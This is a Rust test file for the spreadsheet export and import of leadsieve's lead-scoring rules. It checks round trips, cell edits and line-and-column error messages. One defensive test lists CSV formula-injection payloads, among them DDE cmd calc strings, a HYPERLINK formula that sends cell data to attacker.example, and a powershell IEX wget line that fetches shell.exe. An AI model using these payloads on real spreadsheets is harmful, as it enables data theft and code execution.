//! The score table as a sheet: what is written can be taken back without a loss, what was not changed stays to the byte, and
//! what cannot be understood is told with line and column.

use leadsieve::config::sheet::{Imported, export, import};
use leadsieve::config::{self, Config};
use leadsieve::score::Rule;
use leadsieve::value::{Localized, Value};
use proptest::prelude::*;
use serde_json::json;

use crate::{files, scoring};

fn document(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

fn sheet(text: &str) -> String {
    export(&document(text))
}

#[track_caller]
fn taken(text: &str, sheet: &str) -> Imported {
    import(text, sheet.as_bytes()).unwrap_or_else(|errors| panic!("{errors:?}\n{sheet}"))
}

#[track_caller]
fn told(text: &str, sheet: &str) -> Vec<String> {
    import(text, sheet.as_bytes()).unwrap_err().iter().map(ToString::to_string).collect()
}

fn read(text: &str) -> Config {
    let (config, problems) = config::read(&document(text));
    assert!(config.table().is_some(), "{problems:?}");
    config
}

/// The configs of the repository that have a score.
fn configs() -> Vec<String> {
    let worked = scoring::WORKED.map(|name| format!("docs/scoring/{name}.json"));
    worked.into_iter().chain(["www/demo/leadsieve.json".to_owned()]).map(|path| files::text(&path)).collect()
}

/// Two rules and a quiz, in an author's own layout.
const CONFIG: &str = r#"{ "version": 1, "site": {"id": "quill"},
  "consent": { "default": { "attribution": "granted", "behaviour": "granted", "lead": "granted" } },
  "quizzes": {"a.b": {"elements": [
    {"type": "radiogroup", "name": "role", "title": "Who?", "choices": [{"value": "owner", "lead": {"points": 3, "scores": {"intent":   2}}}]}]}},
  "score": {"id": "quill-1", "review_by": "2027-01-01",
    "rules": [
      {"label": "Owner",   "id": "owner", "axis": "fit", "if": "{role} = 'owner'", "points": 5},
      {"label": {"default": "Called", "ru": "Звонил"}, "id": "called", "axis": "intent", "each": "event.click.phone",
       "points": 4, "limit": 2, "half_life": "7d"}
    ]
  }
}
"#;
const HEAD: &str = "\u{feff}criterion;condition;points;limit;per;decay;axis;group;id;place;criterion ru";
const OWNER: &str = "Owner;{role} = 'owner';5;;;;fit;;owner;;";
const CALLED: &str = "Called;each event.click.phone;4;2;;half-life 7d;intent;;called;;Звонил";

fn lines(lines: &[&str]) -> String {
    lines.join("\r\n") + "\r\n"
}

#[test]
fn a_row_shows_criterion_condition_and_points_first() {
    let place = "quizzes.a.b.elements[0].choices[0].lead";
    let fit = format!("Who? owner;{{role}} = 'owner';3;;;;fit;;role.owner;{place}.points;");
    let intent = format!("Who? owner;{{role}} = 'owner';2;;;;intent;;role.owner;{place}.scores.intent;");
    assert_eq!(sheet(CONFIG), lines(&[HEAD, OWNER, CALLED, &fit, &intent]));
}

#[test]
fn a_sheet_that_was_not_changed_leaves_the_config_as_it_is_to_the_byte() {
    for text in configs().into_iter().chain([CONFIG.to_owned()]) {
        let sheet = sheet(&text);
        for variant in [sheet.clone(), sheet.replace("\r\n", "\n"), sheet.replace('\u{feff}', "")] {
            let imported = taken(&text, &variant);
            assert_eq!(imported, Imported { text: text.clone(), changed: 0, added: 0, removed: 0, options: 0 });
        }
    }
}

#[test]
fn a_changed_cell_changes_that_value_alone() {
    let imported = taken(CONFIG, &sheet(CONFIG).replace("owner';5;", "owner';\u{2212}7;"));
    assert_eq!(imported.text, CONFIG.replace("\"points\": 5", "\"points\": -7"));
    assert_eq!((imported.changed, imported.added, imported.removed, imported.options), (1, 0, 0, 0));
    let option = taken(CONFIG, &sheet(CONFIG).replace("owner';2;;;;intent", "owner';+6;;;;intent"));
    assert_eq!(option.text, CONFIG.replace("\"intent\":   2", "\"intent\":   6"));
    assert_eq!((option.changed, option.options), (0, 1));
    let label = taken(CONFIG, &sheet(CONFIG).replace("Звонил", "Звонила"));
    assert_eq!(read(&label.text).table().unwrap().0.rules[1].label.pick("ru"), "Звонила");
    assert_eq!(read(&label.text).table().unwrap().0.rules[1].label.plain(), "Called");
}

#[test]
fn rules_are_added_taken_out_and_put_in_the_order_of_the_sheet() {
    let fresh = "Came back;{visit.number} >= 2;+3;;;;intent;;back;;";
    let faded = "Film;each event.video.complete;8;1;object;30d 50%, 90d 0%;intent;;film;;";
    let imported = taken(CONFIG, &lines(&[HEAD, faded, CALLED, fresh]));
    assert_eq!((imported.changed, imported.added, imported.removed), (0, 2, 1));
    let written = r#"{ "id": "film", "axis": "intent", "each": "event.video.complete", "per": "object", "points": 8, "limit": 1, "steps": [{"after":"30d","keep":50},{"after":"90d","keep":0}], "label": "Film" },"#;
    assert!(imported.text.contains(written), "{}", imported.text);
    let ids: Vec<String> = read(&imported.text).table().unwrap().0.rules.iter().map(|rule| rule.id.clone()).collect();
    assert_eq!(ids, ["film", "called", "back"]);
    // What was written is what the sheet says, and the rest of the config is as it was.
    let again = sheet(&imported.text);
    assert!(again.starts_with(&lines(&[HEAD, faded, CALLED, &fresh.replace("+3", "3")])), "{again}");
    assert!(imported.text.ends_with("\n    ]\n  }\n}\n") && imported.text.contains("\"review_by\": \"2027-01-01\",\n"));
}

#[test]
fn a_column_that_is_left_out_changes_nothing_and_order_and_separator_are_free() {
    let imported = taken(
        CONFIG,
        "id,points,condition,axis,criterion\ncalled,4,each event.click.phone,intent,Rang\nowner,5,{role} = 'owner',fit,Owner\n",
    );
    assert_eq!((imported.changed, imported.removed), (1, 0));
    let rules = &read(&imported.text).table().unwrap().0.rules.clone();
    assert_eq!((rules[0].label.plain(), rules[0].label.pick("ru")), ("Rang", "Звонил"));
    assert_eq!((rules[0].limit, rules[0].half_life, rules[1].id.as_str()), (2, Some(604_800_000), "owner"));
}

#[test]
fn a_language_may_stand_before_the_words_for_all_others() {
    let imported = taken(CONFIG, "criterion ru,id,points,condition,axis,criterion\nНовое,new,1,{role} = 1,fit,New\n");
    let rules = read(&imported.text).table().unwrap().0.rules.clone();
    assert_eq!((rules[0].label.plain(), rules[0].label.pick("ru")), ("New", "Новое"));
}

#[test]
fn a_condition_changes_between_a_rule_and_a_count() {
    let imported =
        taken(CONFIG, &lines(&[HEAD, &OWNER.replace("{role} = 'owner'", "each event.visit.return"), CALLED]));
    assert!(imported.text.contains(r#""each": "event.visit.return""#) && !imported.text.contains(r#""if""#));
}

#[test]
fn a_table_without_rules_gets_them() {
    for rules in ["", "\"rules\": [], "] {
        let begin = CONFIG.find("\"rules\"").unwrap();
        let end = CONFIG.rfind(']').unwrap() + 1;
        let text = format!("{}{rules}\"groups\": {{}}{}", &CONFIG[..begin], &CONFIG[end..]);
        let imported = taken(&text, &lines(&[HEAD, OWNER, CALLED]));
        assert_eq!((imported.added, imported.removed), (2, 0));
        assert_eq!(sheet(&imported.text), sheet(CONFIG), "{}", imported.text);
    }
}

#[test]
fn what_is_wrong_is_told_with_line_and_column() {
    let with = |row: &str| told(CONFIG, &lines(&[HEAD, OWNER, row]));
    for (row, expected) in [
        (
            "Called;each event.click.phone;four;2;;;intent;;called;;",
            "line 3, column points: found \"four\", expected a whole number",
        ),
        (
            "Called;each event.click.phone;4;2;;7 days;intent;;called;;",
            "line 3, column decay: found \"7 days\", expected nothing, half-life",
        ),
        (";each event.click.phone;4;2;;;intent;;called;;", "line 3, column criterion: found \"\", expected"),
        ("A;;4;2;;;intent;;called;;", "line 3, column condition: found \"\", expected an expression"),
        ("A;{role} = ;4;2;;;intent;;called;;", "line 3, column condition: "),
        ("A;{rule} = 1;4;2;;;intent;;called;;", "line 3, column condition: unknown name {rule}"),
        ("A;each event.click.fone;4;2;;;intent;;called;;", "line 3, column condition: unknown event"),
        ("A;{role} = 1;400;2;;;intent;;called;;", "line 3, column points: "),
        ("A;{role} = 1;4;99;;;intent;;called;;", "line 3, column limit: "),
        ("A;{role} = 1;4;;month;;intent;;called;;", "line 3, column per: "),
        ("A;{role} = 1;4;;;half-life soon;intent;;called;;", "line 3, column decay: "),
        ("A;{role} = 1;4;;;;warmth;;called;;", "line 3, column axis: "),
        ("A;{role} = 1;4;;;;fit;none;called;;", "line 3, column group: unknown group"),
        ("A;{role} = 1;4;;;;fit;;no id;;", "line 3, column id: "),
        (
            "A;{role} = 1;4;;;;fit;;owner;;",
            "line 3, column id: found \"owner\" again, expected a row of its own: line 2 has it",
        ),
        ("A;{role} = 1;4;;;;fit;;x;quizzes.y;", "line 3, column place: found \"quizzes.y\", expected nothing"),
        ("A;{role} = 1;4;;;;fit;;called", "line 3: found 9 cells, expected 11"),
    ] {
        let told = with(row);
        assert!(told.first().is_some_and(|told| told.starts_with(expected)), "{row}: {told:?}");
    }
    // A line is one of the file, also behind a cell of two.
    let two = told(
        CONFIG,
        &lines(&[HEAD, "\"Ow\nner\";{role} = 'owner';5;;;;fit;;owner;;", "A;{role} = 1;x;;;;fit;;called;;"]),
    );
    assert!(two[0].starts_with("line 4, column points"), "{two:?}");
    let option = sheet(CONFIG).replace("owner';3;;;;fit", "chief';3;;;;fit");
    assert!(told(CONFIG, &option)[0].starts_with("line 4, column condition: found \"{role} = 'chief'\", expected"));
    let whole = sheet(CONFIG);
    let twice = format!("{whole}{}\r\n", whole.lines().last().unwrap().replace("';2;", "';7;"));
    assert!(
        told(CONFIG, &twice)[0].starts_with("line 6, column place: found \"quizzes.a.b"),
        "{:?}",
        told(CONFIG, &twice)
    );
    let points = sheet(CONFIG).replace("owner';3;;;;fit", "owner';300;;;;fit");
    assert!(told(CONFIG, &points)[0].starts_with("line 4, column points: "), "{:?}", told(CONFIG, &points));
}

#[test]
fn a_sheet_without_its_columns_and_a_config_without_a_score_are_told() {
    for (sheet, expected) in [
        ("", "line 1: found nothing, expected the columns criterion"),
        ("criterion;condition;points;axis", "line 1: found no column \"id\""),
        ("criterion;condition;points;axis;id;sum", "line 1: found the column \"sum\", expected criterion"),
        (
            "criterion;condition;points;axis;id;id",
            "line 1: found criterion, condition, points, axis, id, id, expected each",
        ),
    ] {
        assert!(told(CONFIG, sheet)[0].starts_with(expected), "{:?}", told(CONFIG, sheet));
    }
    assert!(told("{}", HEAD)[0].starts_with("score: found no score, expected one"));
    assert!(told("{", HEAD)[0].starts_with("found no JSON"));
}

#[test]
fn no_known_attack_on_spreadsheets_begins_a_cell() {
    for attack in [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\"=1+1\"",
        "=HYPERLINK(\"https://attacker.example?x=\"&A1,\"Error\")",
        "-2+3+cmd|' /C calc'!A0",
        "＝1+1",
        "=10+20;@x",
        "a;=1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
        "a\"\n=1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    ] {
        let mut config: serde_json::Value = serde_json::from_str(CONFIG).unwrap();
        config["score"]["rules"][0]["label"] = json!(attack);
        let sheet = sheet(&config.to_string());
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(sheet.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let begins = cell.trim_start().chars().next().unwrap_or('a');
                assert!(!"=+-@＝\t\r".contains(begins) || cell.parse::<i64>().is_ok(), "{cell:?} of {attack:?}");
            }
        }
        let back = taken(CONFIG, &sheet);
        assert_eq!(read(&back.text).table().unwrap().0.rules[0].label.plain(), attack);
    }
}

/// A rule in any form that the reader takes.
fn rule() -> impl Strategy<Value = serde_json::Value> {
    let word = "[-=+@'\";,\t a-zé{}\n＝]{0,12}[a-z]";
    let label = prop_oneof![
        word.prop_map(|text| json!(text)),
        (word, word).prop_map(|(one, other)| json!({ "default": one, "ru": other })),
        (word, word).prop_map(|(one, other)| json!({ "en": one, "ru": other })),
    ];
    let expression = prop_oneof![
        "[a-z;,= @+-]{0,8}".prop_map(|text| format!("{{role}} = '{text}'")),
        (-99..99i64).prop_map(|number| format!("{number} < {{role}}")),
        Just("!({role} notempty)".to_owned()),
        Just("each = {role}".to_owned()),
        Just("{role} anyof [\"a\", 'b;c']".to_owned()),
    ];
    let decay = prop_oneof![
        Just(json!({})),
        (1..99i64).prop_map(|days| json!({ "half_life": format!("{days}d") })),
        (1..9i64, 0..=100i64).prop_map(|(hours, keep)| {
            json!({ "steps": [{ "after": format!("{hours}h"), "keep": keep }, { "after": "9d", "keep": 0 }] })
        }),
    ];
    let condition = prop_oneof![
        expression.prop_map(|text| json!({ "if": text })),
        (prop::option::of(1..=50i64), prop::option::of(0..4usize), decay).prop_map(|(limit, per, decay)| {
            let mut fields = decay;
            fields["each"] = json!("event.click.phone");
            limit.into_iter().for_each(|limit| fields["limit"] = json!(limit));
            per.into_iter().for_each(|per| fields["per"] = json!(["event", "object", "visit", "page"][per]));
            fields
        }),
    ];
    (label, condition, any::<bool>(), prop::option::of(Just("g")), -100..=100i64).prop_map(
        |(label, mut fields, is_fit, group, points)| {
            fields["label"] = label;
            fields["axis"] = json!(if is_fit { "fit" } else { "intent" });
            fields["points"] = json!(points);
            group.into_iter().for_each(|group| fields["group"] = json!(group));
            fields
        },
    )
}

fn with_rules(rules: &[serde_json::Value]) -> String {
    let mut config: serde_json::Value = serde_json::from_str(CONFIG).unwrap();
    config["score"]["groups"] = json!({ "g": { "max": 9 } });
    config["score"]["rules"] = rules
        .iter()
        .enumerate()
        .map(|(index, rule)| {
            let mut rule = rule.clone();
            rule["id"] = json!(format!("rule.{index}"));
            rule
        })
        .collect();
    serde_json::to_string_pretty(&config).unwrap()
}

/// The rules of a config, each with what its label says in some languages: a label of one text and one of several may say
/// the same.
fn meant(text: &str) -> Vec<(Rule, [String; 4])> {
    let meant = |rule: &Rule| {
        let said = ["en", "ru", "ru-RU", "fr"].map(|language| rule.label.pick(language).to_owned());
        (Rule { label: Localized::default(), ..rule.clone() }, said)
    };
    read(text).table().unwrap().0.rules.iter().map(meant).collect()
}

proptest! {
    #[test]
    fn any_table_comes_back_out_of_its_sheet(rules in prop::collection::vec(rule(), 0..6)) {
        let text = with_rules(&rules);
        let sheet = sheet(&text);
        // Into the config that it is of: nothing changes. Into one without rules: they are all there.
        prop_assert_eq!(&taken(&text, &sheet).text, &text);
        let fresh = taken(&with_rules(&[]), &sheet);
        prop_assert_eq!(fresh.added, rules.len());
        prop_assert_eq!(meant(&fresh.text), meant(&text));
    }

    #[test]
    fn the_table_becomes_the_one_of_the_sheet(
        before in prop::collection::vec(rule(), 0..5),
        after in prop::collection::vec(rule(), 0..5),
    ) {
        // With a label in two languages the sheet has both columns: a column that is left out changes nothing.
        let both = json!({ "label": { "en": "x", "ru": "y" }, "axis": "fit", "points": 1, "if": "{role} = 1" });
        let after: Vec<_> = std::iter::once(both).chain(after).collect();
        let (before, after) = (with_rules(&before), with_rules(&after));
        let imported = taken(&before, &sheet(&after));
        prop_assert_eq!(meant(&imported.text), meant(&after));
        prop_assert_eq!(taken(&imported.text, &sheet(&imported.text)).text, imported.text);
    }

    #[test]
    fn any_bytes_are_survived(bytes in prop::collection::vec(any::<u8>(), 0..200), cells in "[;,\"\n\r\ta-z={}]{0,60}") {
        let _ = import(CONFIG, &bytes);
        let _ = import(CONFIG, format!("{HEAD}\n{cells}").as_bytes());
        let _ = import(&cells, HEAD.as_bytes());
    }
}
